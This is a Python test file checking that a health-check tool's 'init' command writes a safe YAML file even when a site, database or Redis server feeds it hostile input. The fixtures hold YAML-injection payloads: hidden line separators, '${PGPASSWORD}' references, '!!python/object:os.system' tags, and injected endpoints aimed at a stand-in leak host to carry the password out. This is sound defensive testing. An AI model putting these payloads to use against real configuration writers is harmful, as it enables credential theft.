"""`init` against a site and a database that try to write into its file (issue 25): header values,
links, JSON health fields and bodies, table, column, index and constraint names holding line
separators (U+2028, U+2029, NEL, CR, LF), `${PGPASSWORD}`, `#`, `: ` and quotes. The written file
loads, holds exactly the keys init means to write, names only the site, leaves the unsafe names out
and says which on the terminal; running the checks on it sends nothing anywhere but the site. And
the loader refuses those line separators outside quoted scalars, naming the line."""

from __future__ import annotations

import json
import os
import secrets
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import yaml

from healthsuite.environment.loader import load_environment
from healthsuite.environment.problems import EnvironmentFileError
from healthsuite.environment.yamltext import YamlFileError, decode, load
from healthsuite.init import comment, shown, unsafe
from healthsuite.init.render import scalar
from healthsuite.testing.postgres_server import PostgresServer
from tests.conftest import CHECKS
from tests.hostile_corpus import FakeRedis, Info, Measured, bulk, measured, silent, trickle

LEAK_HOST = "127.0.0.2"
BREAKS = ("\u2028", "\u2029", "\x85", "\r", "\n")


@contextmanager
def _raw_server(host: str, route: Any) -> Iterator[tuple[str, list[str]]]:
    """A loopback HTTP server writing `route(path)` = (status, [(header, value)], body) as raw UTF-8
    bytes (http.server would refuse such header values); yields its base URL and the paths asked."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server's name
            asked.append(self.path)
            status, headers, body = route(self.path)
            head = f"HTTP/1.1 {status} X\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers)
            head += f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
            self.wfile.write(head.encode("utf-8") + body)
            self.close_connection = True

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer((host, 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://{host}:{server.server_address[1]}", asked
    finally:
        server.shutdown()
        server.server_close()


def _hostile_site(leak: str) -> Any:
    injected = f'  - {{name: injected, url: "{leak}/leak/${{PGPASSWORD}}"}}  #'
    home = (
        "<html><head><title>Home\u2028title: x\r\n# ${PGPASSWORD}</title></head><body>"
        f'<a href="/about">about</a> <a href="/a\u2028b">ls</a> <a href="/x#: y">hash</a>'
        f'<a href="{leak}/leak">elsewhere</a> <a href="/${{PGPASSWORD}}">var</a> <a href=\'/q"uote\'>q</a>'
        "</body></html>"
    ).encode()

    def route(path: str) -> tuple[int, list[tuple[str, str]], bytes]:
        html = [("Content-Type", "text/html")]
        if path == "/":
            return 200, html, home
        if path == "/about":
            return 200, html, b"<html>about</html>"
        if path == "/login":  # the header: a comment ended by U+2028, then a page
            return 302, [*html, ("Location", f"/login\u2028{injected}")], b""
        if path == "/status":
            return 302, [*html, ("Location", f"/s\x85endpoints: [{{url: '{leak}/nel'}}]\u2029x: 1")], b""
        if path == "/sitemap.xml":
            return 200, [("Content-Type", "text/xml\u2028injected: true")], b"<urlset/>"
        if path == "/health":
            body = {"status": "ok", "db": "ok\u2028", "state": "up\x85",
                    "checks": {"queue": "connected", "cache": "ok${PGPASSWORD}", "disk": "up\n- x: 1",
                               "search": "degraded\u2028endpoints: 1"},
                    "ready": True}
            return 200, [("Content-Type", "application/json")], json.dumps(body, ensure_ascii=False).encode()
        if path == "/healthz":
            return 200, [("Content-Type", "text/plain")], b"${PGPASSWORD}"
        if path == "/api/health":
            return 200, [("Content-Type", "text/plain")], "OK\u2028x: 1".encode()
        return 404, html, b"<html>no</html>"

    return route


# names PostgreSQL holds that must not become keys of the file (at most 63 bytes each)
FK_INJECTION = "\nendpoints:\n- name: e\n  url: http://127.0.0.2:9/${PGPASSWORD}"
HOSTILE_TABLES = ("evil\u2028x: 1", "${PGPASSWORD}", "a#: b", 'q"uote', "cr\rlf")
HOSTILE_COLUMN, HOSTILE_INDEX, HOSTILE_SCHEMA = "o\u2029x", "idx\x85- x", "s\u2028x"


def _quoted(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'


def _hostile_database(pg: PostgresServer) -> None:
    tables = "".join(f"CREATE TABLE {_quoted(name)} (id int PRIMARY KEY);\n" for name in HOSTILE_TABLES)
    pg.psql(
        "CREATE TABLE parent (id int PRIMARY KEY);\n"
        "CREATE TABLE child (id int PRIMARY KEY, parent_id int, other_id int, "
        f"CONSTRAINT {_quoted(FK_INJECTION)} FOREIGN KEY (parent_id) REFERENCES parent (id));\n"
        f"ALTER TABLE child ADD COLUMN {_quoted(HOSTILE_COLUMN)} int REFERENCES parent (id);\n"
        f"CREATE INDEX {_quoted(HOSTILE_INDEX)} ON child (parent_id);\n"
        "CREATE INDEX idx_child_other ON child (other_id);\n"
        "INSERT INTO parent SELECT g FROM generate_series(1, 2000) g;\n"
        "INSERT INTO child SELECT g, g % 2000 + 1, g FROM generate_series(1, 5000) g;\n"
        f"CREATE SCHEMA {_quoted(HOSTILE_SCHEMA)};\n"
        f"CREATE TABLE {_quoted(HOSTILE_SCHEMA)}.t (id int);\n"
        f"{tables}"
        "CREATE TABLE alembic_version (version_num text);\n"
        "INSERT INTO alembic_version VALUES ('rev${PGPASSWORD}');\n"
        "ANALYZE;\n",
        dbname="app",
    )


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        for key, item in value.items():
            yield str(key)
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)
    elif isinstance(value, str):
        yield value


@pytest.fixture(scope="module")
def hostile_pg(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PostgresServer]:
    with PostgresServer(tmp_path_factory.mktemp("pg"), superuser_password=secrets.token_urlsafe(18)) as pg:
        pg.create_database("app")
        _hostile_database(pg)
        yield pg


def test_init_writes_only_what_it_means_from_a_hostile_site_and_database(
    hostile_pg: PostgresServer, tmp_path: Path
) -> None:
    password = hostile_pg.superuser_password
    assert password is not None
    output = tmp_path / "hostile.yaml"
    env = {k: v for k, v in os.environ.items() if k not in ("PGPASSWORD", "REDIS_PASSWORD")}
    with _raw_server(LEAK_HOST, lambda _: (200, [], b"leaked")) as (leak, leaked), \
            _raw_server("127.0.0.1", _hostile_site(leak)) as (site, _):
        done = subprocess.run(
            [sys.executable, "-m", "healthsuite", "init", "--base-url", site, "--kind", "test", "--name", "hostile",
             "--dsn", hostile_pg.dsn(dbname="app"), "--output", str(output)],
            cwd=tmp_path, capture_output=True, text=True, timeout=120, env=env,
        )
        assert done.returncode == 0, done.stdout + done.stderr
        raw = output.read_bytes()
        text = raw.decode("utf-8")
        # nothing any YAML parser could take for a line break but LF, nothing but ASCII
        assert text.isascii() and "\r" not in text, [line for line in text.splitlines() if not line.isascii()]
        assert password not in text and password not in done.stdout + done.stderr
        assert [line for line in text.splitlines() if LEAK_HOST in line or "leak" in line] == []  # comments too

        document = load(decode(raw))
        assert document == yaml.safe_load(text)
        assert set(document) == {"name", "kind", "base_urls", "pages", "health", "databases"}
        assert {tuple(sorted(page)) for page in document["pages"]} <= {
            ("content_type", "name", "path", "smoke"), ("expect_status", "name", "path"),
            ("content_type", "name", "path"), ("name", "path")}
        pages = {page["path"] for page in document["pages"]}
        assert pages == {"/", "/about", "/login", "/status", "/sitemap.xml"}, pages
        sitemap = next(page for page in document["pages"] if page["path"] == "/sitemap.xml")
        assert "content_type" not in sitemap  # the hostile content type is left out
        health = {h["path"]: h.get("body", []) for h in document["health"]}
        assert health == {
            "/health": [{"path": "status", "equals": "ok"}, {"path": "checks.queue", "equals": "connected"},
                        {"path": "ready", "equals": True}],
            "/healthz": [], "/api/health": [],
        }, health
        schema = document["databases"][0]["schema"]
        assert set(schema["tables"]) == {"parent", "child", "alembic_version"}
        assert schema["relations"] == [{"child": "child.parent_id", "parent": "parent.id"}]
        assert "idx_child_other" in schema["indexes"] and len(schema["indexes"]) == 1
        assert schema["migrations"] == {"expected": "rev$${PGPASSWORD}"}
        # every URL names the site (or the database given on the command line), nothing 127.0.0.2
        allowed = {urlsplit(site).netloc, urlsplit(hostile_pg.dsn(dbname="app")).netloc.rpartition("@")[2]}
        for value in _strings(document):
            assert LEAK_HOST not in value and "leak" not in value, value
            if "://" in value:
                assert urlsplit(value).netloc.rpartition("@")[2] in allowed, value

        loaded = load_environment(output, environ={"PGPASSWORD": password})
        model = loaded.model
        assert all(p.url is None for p in model.pages) and all(h.url is None for h in model.health)
        migrations = model.databases[0].schema_.migrations
        assert migrations is not None and migrations.expected is not None
        assert loaded.resolve(migrations.expected) == "rev${PGPASSWORD}"  # a literal, not the password

        # the unsafe values are named on the terminal, escaped
        said = done.stdout
        assert "left out, not safe to write into the file" in said, said
        for name in ("evil\\u2028x: 1", "${PGPASSWORD}", "cr\\rlf", "idx\\x85- x", "s\\u2028x", "o\\u2029x",
                     "\\nendpoints:\\n- name: e", "ok\\u2028", "up\\x85", "text/xml\\u2028injected: true",
                     "OK\\u2028x: 1"):
            assert name in said, (name, said)
        assert all(ch not in said for ch in BREAKS[:4])

        # the checks run on the written file: nothing reaches another host
        run = subprocess.run(
            [sys.executable, "-m", "pytest", str(CHECKS), f"--env={output}", f"--reports-dir={tmp_path / 'r'}",
             "-p", "no:cacheprovider", "-q", "--diagnosis", "AV1,AV2,DB9,DB12"],
            cwd=tmp_path, capture_output=True, text=True, timeout=120, env={**env, "PGPASSWORD": password},
        )
        assert run.returncode in (0, 1), run.stdout[-3000:] + run.stderr[-2000:]
        assert leaked == [], leaked


@pytest.mark.parametrize("value", [
    "/login\u2028  - {name: injected}  #", "a\u2029b", "x\x85y", "c\rd", "e\nf", "${PGPASSWORD}", "#: '\"",
    "0x1f", "yes", "2026-12-07", "é\U0001F600", "", " lead", "\x1b[31m", "a: b", "- x", "[1]",
])
def test_a_scalar_reads_back_as_itself_on_one_ascii_line(value: str) -> None:
    written = scalar(value)
    assert "\n" not in written and written.isascii()
    assert yaml.safe_load(f"k: {written}  # c") == {"k": value}
    assert load(decode(f"k: [{written}]\n".encode())) == {"k": [value]}


def test_a_comment_and_a_shown_value_carry_no_line_break() -> None:
    hostile = "a\u2028b\u2029c\x85d\re\nf\x1bg\u202eh"
    for out in (comment(hostile), shown(hostile)):
        assert out.isprintable() and out.isascii() and not any(ch in out for ch in BREAKS)
    assert comment("HTTP 302 -> /login, é") == "HTTP 302 -> /login, é"
    assert unsafe("ok") is None and unsafe("ok\u2028") and unsafe("${X}") and unsafe("a\x85")


T = "name: t\nkind: test\n"


@pytest.mark.parametrize(("text", "line", "said"), [
    (T + "pages: []  # note\u2028injected: true\n", 3, "U+2028 (LINE SEPARATOR)"),
    (T + "description: a\u2028b\n", 3, "U+2028 (LINE SEPARATOR)"),
    (T + "# x\n# y\x85description: z\n", 4, "U+0085 (NEXT LINE)"),
    (T + "description: |\n  a\u2029b: 1\n", 4, "U+2029 (PARAGRAPH SEPARATOR)"),
    (T + "pages: []  # x\rdescription: y\n", 3, "a carriage return"),
    (T.replace("\n", "\r"), 1, "a carriage return"),
])
def test_the_loader_refuses_a_hidden_line_break_outside_quotes_naming_the_line(
    text: str, line: int, said: str
) -> None:
    with pytest.raises(YamlFileError) as refused:
        decode(text.encode())
    assert refused.value.line == line and said in str(refused.value), str(refused.value)
    assert refused.value.fix


def test_the_loader_keeps_crlf_files_and_separators_inside_quotes(tmp_path: Path) -> None:
    assert load(decode((T + "description: 'x'\n").replace("\n", "\r\n").encode())) == {
        "name": "t", "kind": "test", "description": "x"}
    # inside quotes they are text (NEL and CR folded to a space as YAML folds a line break)
    assert load(decode((T + 'description: "a\u2028b\x85c\rd"\n').encode()))["description"] == "a\u2028b c d"
    assert load(decode((T + "description: 'a\u2029b'\n").encode()))["description"] == "a\u2029b"
    path = tmp_path / "hidden.yaml"
    path.write_text(T + "pages: []  # guessed\u2028endpoints: []\n")
    with pytest.raises(EnvironmentFileError) as refused:
        load_environment(path, environ={})
    assert "line 3" in str(refused.value) and "U+2028" in str(refused.value)


# --- a Redis whose INFO tries to write into the file --------------------------------------------------

RSS_BOUND_MB = 500  # init holds at most one bounded INFO answer; a real one is a few kB
INIT_SLACK_S = 60.0


def _hostile_info() -> bytes:
    """An INFO answer whose values and keyspace names carry line separators, YAML markup, `${...}`, a
    number YAML or Python would overflow, and bytes that are not UTF-8."""
    lines = [
        "# Server", "redis_version:7.2.4\u2028caches: [{name: evil, url: 'redis://127.0.0.2:6379'}]",
        "executable:/usr/bin/${PGPASSWORD}", "config_file:&anchor {a: *alias} !!python/object:os.system",
        "# Memory", "used_memory:1048576", "used_memory_human:1.00M\r\nmaxmemory_policy:allkeys-lru",
        "maxmemory:67108864", "maxmemory_human:64.00M\x85- x: 1",
        "maxmemory_policy:allkeys-lru\u2029endpoints: [{url: 'http://127.0.0.2/${PGPASSWORD}'}] # x",
        "total_system_memory:1.0e999",
        "# Stats", "rejected_connections:0", "keyspace_hits:90", "keyspace_misses:10", "evicted_keys:-1",
        "# Keyspace", "db0:keys=1,expires=0,avg_ttl=0", "db1\u2028caches: x:keys=1,expires=0",
        "db2\r- &a {}:keys=1,expires=0", "${PGPASSWORD}:keys=1,expires=0", "db3: #:keys=1,expires=0",
        "db4\x85!!python/object:x:keys=2,expires=0",
    ]
    return "\r\n".join(lines).encode() + b"\r\nos:Linux \xff\xfe\xc3(\r\nmem_allocator:\xe2\x28\xa1\r\n"


def _init_against_redis(tmp_path: Path, redis_url: str, *extra: str) -> tuple[Measured, Path]:
    output = tmp_path / "cache.yaml"
    env = {k: v for k, v in os.environ.items() if k not in ("PGPASSWORD", "REDIS_PASSWORD")}
    with _raw_server("127.0.0.1", lambda _: (200, [("Content-Type", "text/html")], b"<html>ok</html>")) \
            as (site, _):
        done = measured([sys.executable, "-m", "healthsuite", "init", "--base-url", site, "--kind", "test",
                         "--name", "cache", "--redis", redis_url, "--output", str(output), "--timeout", "3", *extra],
                        cwd=tmp_path, env={**env, "REDIS_PASSWORD": "s3cret-not-written"}, timeout_s=120)
    print(f"\ninit: exit {done.returncode}, wall {done.wall_s:.1f} s, peak RSS {done.peak_rss_mb:.0f} MB")
    assert not done.timed_out and done.peak_rss_mb < RSS_BOUND_MB, done.tail()
    # the site answers at once; Redis's one exchange is cut at --timeout 3 s: init ends within that, the
    # site's few requests (each bounded by the same 3 s) and INIT_SLACK_S for Python's start on a noisy machine
    assert done.wall_s < INIT_SLACK_S + 3 * 3.0, done.tail()
    assert "Traceback" not in done.stderr and "internal error" not in done.stderr, done.tail()
    return done, output


def test_init_writes_only_what_it_means_from_a_hostile_redis_info(tmp_path: Path) -> None:
    redis = FakeRedis(bulk(_hostile_info()))
    with redis.serving() as url:
        done, output = _init_against_redis(tmp_path, url)
    assert done.returncode == 0, done.tail()
    assert "INFO" in redis.asked and not {"CONFIG", "KEYS", "SCAN"} & set(redis.asked), redis.asked
    raw = output.read_bytes()
    text = raw.decode("utf-8")
    assert text.isascii() and "\r" not in text
    assert "s3cret" not in text + done.stdout + done.stderr
    assert "127.0.0.2" not in text and "PGPASSWORD" not in text and "python/object" not in text, text
    document = load(decode(raw))
    assert document == yaml.safe_load(text)
    assert set(document) == {"name", "kind", "base_urls", "pages", "caches"}, document
    assert document["caches"] == [{"name": "cache", "url": url, "password": "${REDIS_PASSWORD}"}]
    for value in _strings(document):
        assert "127.0.0.2" not in value and "evil" not in value, value
    loaded = load_environment(output, environ={"REDIS_PASSWORD": "pw"})
    assert loaded.resolve(loaded.model.caches[0].password or "") == "pw"  # the only reference is ours
    observed = [line for line in text.splitlines() if "# observed" in line]
    assert observed and all("allkeys-lru" not in line and "\\u2029" not in line for line in observed), observed
    # the hostile policy is left out and named, escaped, on the terminal
    said = done.stdout
    assert "left out, not safe to write into the file" in said and "maxmemory_policy" in said, said
    assert "\\u2029endpoints" in said and all(ch not in said for ch in BREAKS[:4]), said


@pytest.mark.parametrize("case", ["10 MB", "1 GiB announced", "trickle", "never answers", "no line end"])
def test_init_bounds_a_redis_info_that_is_huge_or_never_ends(tmp_path: Path, case: str) -> None:
    keyspace = b"".join(b"db%d\xe2\x80\xa8- &a {x: ${PGPASSWORD}}:keys=1,expires=0\r\n" % i for i in range(250_000))
    info: Info = {
        "10 MB": bulk(b"# Memory\r\nused_memory:1024\r\nmaxmemory:0\r\n" + keyspace),
        "1 GiB announced": lambda conn: conn.sendall(b"$1073741824\r\n" + b"x" * 65536),
        "trickle": trickle(100_000),
        "never answers": silent,
        "no line end": lambda conn: conn.sendall(b"+" + b"y" * (40 << 20)),
    }[case]
    redis = FakeRedis(info)
    with redis.serving() as url:
        done, output = _init_against_redis(tmp_path, url)
    # --timeout 3: every exchange of init is cut at 3 s; the site's few requests and Python's start on a
    # noisy machine stay far within the test's 120 s (no tight timing here)
    assert done.returncode == 4 and not output.exists(), done.tail()
    said = done.stderr
    assert f"--redis 127.0.0.1:{redis.port}/0" in said and "s3cret" not in said + done.stdout, said
    if case in ("10 MB", "1 GiB announced", "no line end"):
        assert "larger than 1 MiB" in said and "MAX_ANSWER_BYTES" in said, said
    else:
        assert "within its 3 s deadline" in said and "raise --timeout" in said, said
